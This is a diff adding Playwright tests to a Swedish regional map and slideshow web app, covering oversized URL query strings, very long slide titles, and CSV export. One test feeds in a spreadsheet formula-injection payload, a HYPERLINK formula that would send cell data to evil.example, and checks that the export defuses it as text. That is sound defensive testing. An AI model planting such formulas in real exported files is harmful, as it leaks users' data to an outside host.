@@ -1,6 +1,7 @@
 import { readFileSync } from "node:fs";
 import type { Page } from "@playwright/test";
 import { test, expect } from "./fixtures";
+import { readCsv } from "../csvRead";
 import { collectErrors, waitForMap } from "./helpers";
 import { encodeWindows1252 } from "../windows1252";
 
@@ -70,9 +71,33 @@ test.describe("hostile links", () => {
     await waitForMap(page);
     await expect(page.locator("#side-panel").getByRole("heading", { level: 2, name: "Skåne" })).toBeVisible();
     const notice = page.getByTestId("url-notice");
-    await expect(notice).toContainText("region=SE-AB");
+    // The second region is a repeat, and said to be one: not an unknown region.
+    await expect(notice.locator("p").nth(1)).toHaveText("Angavs mer än en gång; bara den första lästes: region=SE-AB");
     // Long values are cut in the notice, so it stays one readable line.
     expect(((await notice.textContent()) ?? "").length).toBeLessThan(300);
+    expect(errors).toEqual([]);
+  });
+
+  test("50 000 unknown keys give a notice of a few lines that counts the rest", async ({ page }, testInfo) => {
+    const errors = collectErrors(page);
+    const keys = Array.from({ length: 50_000 }, (_, i) => `${i === 0 ? "k".repeat(300) : "k"}${i}=1`);
+    // A 400 kB address is more than the preview server reads in a request line: the page is served
+    // from "/" while the browser keeps the long address, which is all the app reads.
+    await page.route(
+      (url) => url.search.length > 100_000,
+      async (route) => route.fulfill({ response: await route.fetch({ url: new URL("/", route.request().url()).href }) }),
+    );
+    await page.goto(`/?${keys.join("&")}`);
+    await waitForMap(page);
+    const notice = page.getByTestId("url-notice");
+    await expect(notice.getByTestId("url-notice-more")).toHaveText("… och 49\u00a0995 till");
+    await expect(notice.locator("code")).toHaveCount(5);
+    // The 301-character key is cut to 40 and an ellipsis.
+    await expect(notice.locator("code").first()).toHaveText(`${"k".repeat(40)}…=1`);
+    const box = (await notice.boundingBox())!;
+    expect(box.height).toBeLessThan(120);
+    await expect(page).toHaveURL(/\/$/);
+    await page.screenshot({ path: testInfo.outputPath("notice-50000-keys.png") });
     expect(errors).toEqual([]);
   });
 });
@@ -227,6 +252,23 @@ test.describe("opening a data file", () => {
     await expect(rows).toHaveCount(12);
   });
 
+  test("names that start like a formula are written to the CSV as text, not formulas", async ({ page }) => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1;"Ny strategi")';
+    const edited = raw();
+    const uppsala = edited.regions.find((r: { code: string }) => r.code === "SE-C");
+    uppsala.name = "@SUMMA(1+1)";
+    edited.statuses.find((s: { id: string }) => s.id === uppsala.strategy.status).sv = formula;
+    await openFile(page, "rus-formler.json", JSON.stringify(edited));
+    await expect(page.getByTestId("upload-loaded")).toContainText("Data från rus-formler.json visas nu");
+    await page.getByText("Exportera").click();
+    await page.getByText("Semikolon (svensk Excel)").click();
+    const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("csv-view").click()]);
+    const text = readFileSync((await download.path())!, "utf8");
+    // The line as written: the leading ' makes Excel read the cell as text; the quoting is RFC 4180's.
+    expect(text).toContain(`SE-C;"'@SUMMA(1+1)";"'=HYPERLINK(""https://evil.example/?""&A1;""Ny strategi"")"\r\n`);
+    expect(readCsv(text, ";").find((row) => row[0] === "SE-C")).toEqual(["SE-C", "'@SUMMA(1+1)", `'${formula}`]);
+  });
+
   test("a file dropped on the page is read the same way", async ({ page }) => {
     const edited = raw();
     edited.statuses[0].sv = "Ny strategi antagen 2026 (släppt fil)";
@@ -241,6 +283,70 @@ test.describe("opening a data file", () => {
     await expect(page.locator(".dataset-drop-overlay")).toHaveCount(0);
     await expect(page.getByTestId("upload-loaded")).toContainText("dropped.json");
     await expect(page.getByTestId("legend")).toContainText("Ny strategi antagen 2026 (släppt fil)");
+  });
+});
+
+test.describe("a deck with a 400 kB slide title", () => {
+  test.use({ viewport: { width: 1280, height: 720 } });
+
+  test("keeps the slide number and the exit button on screen, and the whole title in its tooltip", async ({ page }, testInfo) => {
+    const errors = collectErrors(page);
+    // Words to wrap, then 200 000 letters without a break: wider than any screen unless broken inside the word.
+    const longTitle = `${"Regionernas arbete med kompetensförsörjning och näringslivsutveckling ".repeat(2_900)}${"A".repeat(200_000)}`;
+    expect(longTitle.length).toBeGreaterThan(400_000);
+    const deckTitle = "Ö".repeat(20_000);
+    const deck = {
+      version: 1,
+      title: { sv: deckTitle, en: "Long" },
+      slides: [
+        { view: "color=status", title: { sv: longTitle, en: "Long" }, caption: { sv: "x".repeat(30_000), en: "Long" } },
+        { view: "color=year", title: { sv: "Antagandeår", en: "Year" }, caption: { sv: "Kort.", en: "Short." } },
+      ],
+    };
+    await page.goto("/");
+    await waitForMap(page);
+    await page.getByTestId("deck-editor-open").click();
+    await page
+      .getByTestId("deck-file")
+      .setInputFiles({ name: "lang.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(deck)) });
+    await expect(page.getByTestId("deck-status")).toHaveText("lang.json: 2 bilder inlästa.");
+    // The deck's 20 000-letter title gives way in the editor; where the deck came from stays in view.
+    await expect(page.locator(".deck-editor-origin-label")).toHaveText("· Från fil");
+    await expect(page.locator(".deck-editor-origin-label")).toBeInViewport({ ratio: 1 });
+    await page.getByTestId("deck-present").click();
+
+    const title = page.getByTestId("slide-title");
+    await expect(page.getByTestId("slide-counter")).toHaveText("1 / 2");
+    await waitForMap(page);
+    await page.screenshot({ path: testInfo.outputPath("slide-400kB-title-1280x720.png") });
+    await expect(page.getByTestId("slide-counter")).toBeInViewport({ ratio: 1 });
+    const exit = page.getByRole("button", { name: "Avsluta presentationen" });
+    await expect(exit).toBeInViewport({ ratio: 1 });
+    // Three lines of title and three of caption: the map keeps most of the slide.
+    expect((await title.boundingBox())!.height).toBeLessThan(130);
+    expect((await page.getByTestId("map").boundingBox())!.height).toBeGreaterThan(300);
+    // Only a piece of it is laid out (1 000 characters and an ellipsis, far more than three lines show)…
+    expect(await title.evaluate((el) => el.textContent!.length)).toBe(1_001);
+    // … and the whole title is its tooltip (compared by parts: a failure should not print 400 kB).
+    const tooltip = (await title.getAttribute("title")) ?? "";
+    expect(tooltip.length).toBe(longTitle.length);
+    expect([tooltip.slice(0, 80), tooltip.slice(-80)]).toEqual([longTitle.slice(0, 80), longTitle.slice(-80)]);
+
+    // The grid of slides: the long title's tile stays the size of a tile.
+    await page.keyboard.press("g");
+    const tiles = page.getByTestId("slide-grid").getByRole("button");
+    await expect(tiles).toHaveCount(2);
+    expect((await tiles.first().boundingBox())!.height).toBeLessThan(200);
+    await page.keyboard.press("Escape");
+    await expect(page.getByTestId("slide-grid")).toHaveCount(0);
+
+    // A short title is whole on screen and needs no tooltip.
+    await page.keyboard.press("PageDown");
+    await expect(title).toHaveText("Antagandeår");
+    await expect(title).not.toHaveAttribute("title");
+    await exit.click();
+    await expect(page.getByTestId("slide-header")).toHaveCount(0);
+    expect(errors).toEqual([]);
   });
 });
 
